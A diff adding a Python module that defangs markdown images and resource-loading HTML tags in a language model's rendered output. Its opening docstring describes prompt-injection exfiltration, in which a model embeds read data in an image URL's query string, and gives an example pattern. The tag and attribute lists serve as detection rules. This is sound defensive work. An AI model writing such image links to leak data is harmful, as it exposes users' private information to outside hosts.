@@ -1,0 +1,407 @@
+"""The model's prose, made unable to load anything when a client renders it as markdown.
+
+A prompt-injected model can exfiltrate what it read by writing ``![x](https://host/p.png?q=<data>)``: the
+editor's markdown view fetches the image, and the query string carries the data. So every text of the
+model that a client may render (streamed deltas, each turn's message, the run's answer) passes through
+``Defanger`` first; the history the model reads back keeps what it wrote.
+
+What changes, anywhere in the text (code spans and fenced blocks included):
+
+- Every markdown image (``![`` starts one in every dialect) stops being one. An inline image
+  ``![alt](url "title")`` becomes ``[image: alt](https://host/…)`` for an http(s) URL: a text link naming
+  the host, whose target has no path or query left to carry data. Any other inline image becomes
+  ``[image: alt — not loaded: <what>]`` (``a data: URI``, ``a file: URL on host``, ``a local path``…).
+  Other forms (reference images ``![alt][ref]``, ``![alt]``, anything we cannot read as an inline image)
+  get a space after the ``!``: ``! [alt][ref]`` is at most a link, opened only by a click.
+- Every HTML start tag that can load something gets a space after its ``<`` (``< img src=…>`` is text to
+  every markdown renderer and browser): tags that fetch by their nature (``img``, ``image``, ``picture``,
+  ``source``, ``video``, ``audio``, ``track``, ``iframe``, ``frame``, ``object``, ``embed``, ``link``,
+  ``style``, ``script``, ``svg``, ``math``, ``meta``, ``base``, …) and any tag with an attribute that can
+  (``src``, ``srcset``, ``style``, ``background``, ``poster``, ``data``, ``on…`` handlers, …). The tag is
+  read as a browser's tokenizer reads it (HTML Living Standard 13.2.5, "tag open" to "after attribute
+  value"), so quotes and ``>`` inside values cannot hide an attribute. Other tags (``<details>``,
+  ``<kbd>``, ``Vec<u8>``, ``<a href=…>``) stay.
+
+``targets`` lists what the defanged parts pointed at (hosts, or ``a data: URI``…), for the warning the user
+sees; local paths are left out (they load nothing from the network).
+
+Why textual rules and not a markdown parser: the text is rendered by clients we do not control (VS Code's
+markdown-it, Neovim and Emacs markdown modes, other editors' renderers), whose dialects disagree on code
+spans, HTML blocks and extensions; a parser that judged "this image is inside code, keep it" could be
+wrong for one of them. Rules that never depend on context hold for every renderer, and they give the
+same output whether the text arrives whole or in pieces (a streamed delta never shows something the whole
+text would not), which a parser of a partial document cannot. The price is that an image or an ``<img>``
+in a code example is changed too. tests/unit/core/test_markdown_defang.py checks the rules against
+markdown-it-py, the parser family VS Code renders markdown with.
+
+A construct is judged within ``HOLD_CHARS`` characters of its start; one longer than that is defanged by
+its short form (``! [`` or ``< ``) without reading further. While streaming, text that may still become a
+construct (a trailing ``!`` or ``<``, an image or tag not yet closed) is held back until it is decided.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+from dataclasses import dataclass
+from typing import Literal
+from urllib.parse import unquote
+
+HOLD_CHARS = 2048
+"""Characters after the start of an image or tag within which it is read (and held back while streaming)."""
+
+LOADING_TAGS = frozenset(
+    {
+        "applet", "audio", "base", "bgsound", "embed", "fencedframe", "frame", "frameset", "iframe",
+        "ilayer", "image", "img", "input", "layer", "link", "math", "meta", "mglyph", "object", "picture",
+        "portal", "script", "source", "style", "svg", "track", "video",
+    }
+)  # fmt: skip
+"""Tag names (lower case) whose element fetches a resource (``input`` for ``type=image``)."""
+
+LOADING_ATTRIBUTES = frozenset(
+    {
+        "background", "codebase", "data", "dynsrc", "formaction", "href", "lowsrc", "manifest", "ping",
+        "poster", "src", "srcdoc", "srcset", "style", "xlink:href",
+    }
+)  # fmt: skip
+"""Attribute names that make a tag fetch, on some element (``href`` for ``link``, ``base``, svg ``image``;
+``style`` for CSS ``url()``), besides every ``on…`` event handler. ``href`` alone on ``a`` and ``area`` is a
+link: kept."""
+
+_LINK_TAGS = frozenset({"a", "area"})
+_TRIGGER = re.compile(r"!\[|<[A-Za-z]")
+_WHITESPACE = " \t\n\f\r"
+_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*):")
+_HOSTNAME = re.compile(r"[a-z0-9._-]+|\[[0-9a-f:.]+\]")
+_URL_IN_TAG = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*:)?[/\\]{2}[^\s\"'<>()`]+|data:[^\s\"'<>()`]*", re.I)
+_LOCAL_PATH = re.compile(r"[\w.~/+%@,-]{1,80}")
+# Schemes whose URLs have a host (WHATWG URL "special schemes"): slashes and backslashes after the colon
+# are skipped, so ``https:\\host`` and ``https:host`` name a host too.
+_SPECIAL_SCHEMES = frozenset({"http", "https", "ws", "wss", "ftp", "file"})
+
+More = Literal["maybe", "no", "cut"]
+"""What may follow the window: more text may still come ("maybe", streaming), the text ends here ("no"),
+or the text goes on past ``HOLD_CHARS`` ("cut")."""
+
+
+@dataclass(frozen=True)
+class Defanged:
+    """A defanged text and what its defanged parts pointed at (hosts and schemes, in order, no repeats)."""
+
+    text: str
+    targets: tuple[str, ...]
+
+
+def defang_markdown(text: str) -> Defanged:
+    """``text`` with its images and loading HTML tags defanged (module docstring).
+
+    ``targets`` also names where reference images (``![alt][ref]`` with ``[ref]: url`` anywhere in the
+    text) pointed: they became links, but the user is told of them like of the others.
+    """
+    defanger = Defanger()
+    out = defanger.feed(text) + defanger.flush()
+    return Defanged(out, tuple(dict.fromkeys([*defanger.targets, *_reference_targets(text)])))
+
+
+_DEFINITION = re.compile(r"^ {0,3}\[((?:[^\]\\]|\\.)+)\]:[ \t]*\n?[ \t]*(<[^>\n]*>|\S+)", re.M)
+
+
+def _label(text: str) -> str:
+    return " ".join(text.split()).casefold()
+
+
+def _reference_targets(text: str) -> list[str]:
+    """Where the reference images of ``text`` point, by its link reference definitions (CommonMark 4.7)."""
+    definitions: dict[str, str] = {}
+    for found in _DEFINITION.finditer(text):
+        definitions.setdefault(_label(found[1]), found[2].strip("<>"))
+    targets: list[str] = []
+    for found in re.finditer(r"!\[", text) if definitions else ():
+        close = _bracket_end(text, found.end())
+        if close is None:
+            continue
+        label = text[found.end() : close]
+        if text.startswith("[", close + 1):
+            end = _bracket_end(text, close + 2)
+            if end is not None and end > close + 2:
+                label = text[close + 2 : end]
+        destination = definitions.get(_label(label))
+        if destination is not None:
+            host, what = describe_url(destination)
+            if host or not what.startswith("a local path"):
+                targets.append(host or what)
+    return targets
+
+
+class Defanger:
+    """Defangs a text that arrives in pieces: ``feed`` each piece, then ``flush`` once.
+
+    The pieces returned, joined, are exactly ``defang_markdown`` of the whole text. ``targets`` collects
+    what was defanged so far (with repeats).
+    """
+
+    def __init__(self) -> None:
+        self._pending = ""
+        self._last = ""
+        self.targets: list[str] = []
+
+    def feed(self, piece: str) -> str:
+        """The part of the text so far that is decided; the rest is held back."""
+        self._pending += piece
+        return self._drain(final=False)
+
+    def flush(self) -> str:
+        """Everything held back, decided as the end of the text."""
+        return self._drain(final=True)
+
+    def _drain(self, *, final: bool) -> str:
+        text, pos, last = self._pending, 0, self._last
+        out: list[str] = []
+        while True:
+            found = _TRIGGER.search(text, pos)
+            if found is None:
+                end = len(text) if final or not text.endswith(("!", "<")) else len(text) - 1
+                out.append(text[pos:end])
+                pos = end
+                break
+            start = found.start()
+            if start > pos:
+                out.append(text[pos:start])
+                last = text[start - 1]
+            window = text[start : start + HOLD_CHARS]
+            more: More = "cut" if len(text) - start > HOLD_CHARS else "no" if final else "maybe"
+            judge = _image if text[start] == "!" else _tag
+            decided = judge(window, more, self.targets)
+            if decided is None:
+                pos = start
+                break
+            replacement, used = decided
+            if replacement.startswith("[") and last == "!":
+                replacement = " " + replacement  # "!" then "[image…](…)" must not become an image
+            out.append(replacement)
+            last = replacement[-1]
+            pos = start + used
+        self._pending = text[pos:]
+        shown = "".join(out)
+        self._last = shown[-1] if shown else self._last
+        return shown
+
+
+def _image(window: str, more: More, targets: list[str]) -> tuple[str, int] | None:
+    """``window`` starts with ``![``: the replacement and how many characters it replaces; None: wait."""
+    short = ("! ", 1)
+    undecided = None if more == "maybe" else short
+    close = _bracket_end(window, 2)
+    if close is None:
+        return undecided
+    at = close + 1
+    if at >= len(window):
+        return undecided
+    if window[at] != "(":
+        return short
+    at = _skip_space(window, at + 1)
+    if at >= len(window):
+        return undecided
+    if window[at] == "<":
+        end = _until(window, at + 1, ">", forbidden="<\n")
+        if end is None or end < 0:
+            return undecided if end is None else short
+        destination, at = window[at + 1 : end], end + 1
+    else:
+        end = _raw_destination_end(window, at)
+        if end is None:
+            return undecided
+        destination, at = window[at:end], end
+    at = _skip_space(window, at)
+    if at >= len(window):
+        return undecided
+    if window[at] in "\"'(":
+        end = _until(window, at + 1, ")" if window[at] == "(" else window[at], forbidden="")
+        if end is None:
+            return undecided
+        at = _skip_space(window, end + 1)
+        if at >= len(window):
+            return undecided
+    if window[at] != ")":
+        return short
+    alt = defang_markdown(window[2:close])
+    targets.extend(alt.targets)
+    label = f"image: {alt.text}" if alt.text.strip() else "image"
+    host, what = describe_url(destination)
+    if what == "http":
+        scheme = "http" if destination.lstrip().lower().startswith("http:") else "https"
+        targets.append(host)
+        return f"[{label}]({scheme}://{host}/…)", at + 1
+    if host:
+        targets.append(host)
+    elif not what.startswith("a local path"):
+        targets.append(what)
+    return f"[{label} — not loaded: {what}]", at + 1
+
+
+def _bracket_end(window: str, at: int) -> int | None:
+    """Index of the ``]`` closing the ``[`` before ``at`` (nested brackets counted, ``\\`` escapes)."""
+    depth = 1
+    while at < len(window):
+        char = window[at]
+        if char == "\\":
+            at += 2
+            continue
+        if char == "[":
+            depth += 1
+        elif char == "]":
+            depth -= 1
+            if depth == 0:
+                return at
+        at += 1
+    return None
+
+
+def _skip_space(window: str, at: int) -> int:
+    while at < len(window) and window[at] in " \t\n":
+        at += 1
+    return at
+
+
+def _until(window: str, at: int, closing: str, *, forbidden: str) -> int | None:
+    """Index of ``closing`` from ``at`` (``\\`` escapes); -1 when a ``forbidden`` character comes first."""
+    while at < len(window):
+        char = window[at]
+        if char == "\\":
+            at += 2
+            continue
+        if char == closing:
+            return at
+        if char in forbidden:
+            return -1
+        at += 1
+    return None
+
+
+def _raw_destination_end(window: str, at: int) -> int | None:
+    """End of a destination without ``<>``: at a space or control, or an unbalanced ``)``."""
+    depth = 0
+    while at < len(window):
+        char = window[at]
+        if char == "\\":
+            at += 2
+            continue
+        if char <= " ":
+            return at
+        if char == "(":
+            depth += 1
+        elif char == ")":
+            if depth == 0:
+                return at
+            depth -= 1
+        at += 1
+    return None
+
+
+def describe_url(url: str) -> tuple[str, str]:
+    """``(host, what)`` for a link destination as a renderer would resolve it.
+
+    ``what`` is ``"http"`` for an http(s) URL (or one starting with two slashes) with a readable host,
+    else a phrase: ``a data: URI``, ``a file: URL on <host>``, ``a local path p.png``, ``a URL with an
+    unreadable host``. ``host`` is the lower-case host name (IDNA for a non-ASCII one), or "".
+    Character references and backslash escapes are decoded first and tabs and line feeds dropped, as
+    CommonMark and the WHATWG URL parser do.
+    """
+    decoded = html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", url))
+    decoded = re.sub(r"[\t\n\r]", "", decoded).strip("".join(map(chr, range(0x21))))
+    scheme_found = _SCHEME.match(decoded)
+    if scheme_found is None and not re.match(r"[/\\]{2}", decoded):
+        shown = decoded if _LOCAL_PATH.fullmatch(decoded) else ""
+        return "", f"a local path {shown}".rstrip()
+    scheme = scheme_found[1].lower() if scheme_found else "https"
+    rest = decoded[scheme_found.end() :] if scheme_found else decoded
+    if scheme not in _SPECIAL_SCHEMES:
+        return "", f"a {scheme}: URI"
+    authority = re.split(r"[/\\?#]", rest.lstrip("/\\"), maxsplit=1)[0]
+    host = _hostname(unquote(authority.rpartition("@")[2]))
+    if scheme == "file":
+        return host, f"a file: URL on {host}" if host else "a local file: URL"
+    if not host:
+        return "", "a URL with an unreadable host"
+    return host, "http" if scheme in ("http", "https") else f"a {scheme}: URL on {host}"
+
+
+def _hostname(authority: str) -> str:
+    if authority.startswith("["):
+        name = authority[: authority.find("]") + 1]
+    else:
+        name = authority.partition(":")[0]
+    name = name.lower().rstrip(".")
+    if not name.isascii():
+        try:
+            name = name.encode("idna").decode("ascii")
+        except UnicodeError:
+            return ""
+    return name if _HOSTNAME.fullmatch(name) else ""
+
+
+def _tag(window: str, more: More, targets: list[str]) -> tuple[str, int] | None:
+    """``window`` starts with ``<`` and a letter: ``("< ", 1)`` when the tag may load, ``("<", 1)``
+    otherwise; None: wait for more text."""
+    read = _read_start_tag(window)
+    if read is None:  # the tag is not closed within the window
+        if more == "maybe":
+            return None
+        if more == "no":
+            return "<", 1  # never closed: no renderer or browser makes it a tag
+        read = ("", ["src"])  # cut: judged as loading
+    name, attributes = read
+    loads = name in LOADING_TAGS or any(
+        attribute.startswith("on") or (attribute in LOADING_ATTRIBUTES and not (attribute == "href" and name in _LINK_TAGS))
+        for attribute in attributes
+    )
+    if not loads:
+        return "<", 1
+    end = window.find(">")
+    for url in _URL_IN_TAG.findall(html.unescape(window if end < 0 else window[: end + 1])):
+        host, what = describe_url(url)
+        targets.append(host or what)
+    return "< ", 1
+
+
+def _read_start_tag(window: str) -> tuple[str, list[str]] | None:
+    """The tag name and attribute names (lower case, NUL as U+FFFD) of the start tag ``window`` opens,
+    read as the HTML tokenizer reads them; None when the window ends before the tag does."""
+    text = window.replace("\0", "\ufffd")
+    at = 1
+    while at < len(text) and text[at] not in _WHITESPACE + "/>":
+        at += 1
+    name = text[1:at].lower()
+    attributes: list[str] = []
+    while at < len(text):
+        char = text[at]
+        if char in _WHITESPACE or char == "/":
+            at += 1
+            continue
+        if char == ">":
+            return name, attributes
+        # attribute name: a leading "=" belongs to it; it ends at whitespace, "/", ">" or "="
+        begin = at
+        at += 1
+        while at < len(text) and text[at] not in _WHITESPACE + "/>=":
+            at += 1
+        attributes.append(text[begin:at].lower())
+        while at < len(text) and text[at] in _WHITESPACE:
+            at += 1
+        if at >= len(text) or text[at] != "=":
+            continue
+        at += 1
+        while at < len(text) and text[at] in _WHITESPACE:
+            at += 1
+        if at >= len(text):
+            return None
+        if text[at] in "\"'":
+            closing = text.find(text[at], at + 1)
+            if closing < 0:
+                return None
+            at = closing + 1
+        else:
+            while at < len(text) and text[at] not in _WHITESPACE + ">":
+                at += 1
+    return None
